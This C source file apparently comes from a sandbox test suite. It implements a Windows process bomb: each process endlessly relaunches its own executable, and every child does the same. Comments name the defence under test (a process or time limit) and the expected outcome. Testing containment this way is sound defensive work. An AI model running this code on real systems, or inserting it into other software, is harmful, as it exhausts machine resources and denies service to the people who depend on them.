// attack: starts processes endlessly, and so does each of them
// defence: limit of processes, or the time limit
// outcome: timeout|no checkpoint

#include "hostile.h"

static void start_another(void) {
    char name[MAX_PATH];
    GetModuleFileNameA(NULL, name, sizeof name);
    STARTUPINFOA start = {.cb = sizeof start};
    PROCESS_INFORMATION made;
    SetEnvironmentVariableA("CHILD", "1");
    for (;;)
        CreateProcessA(name, NULL, NULL, NULL, FALSE, DETACHED_PROCESS, NULL, NULL, &start, &made);
}

__attribute__((constructor)) static void child(void) {
    if (GetEnvironmentVariableA("CHILD", NULL, 0))
        start_another();
}

static void attack(void *base, size_t first, size_t count) {
    (void)base, (void)first, (void)count;
    start_another();
}
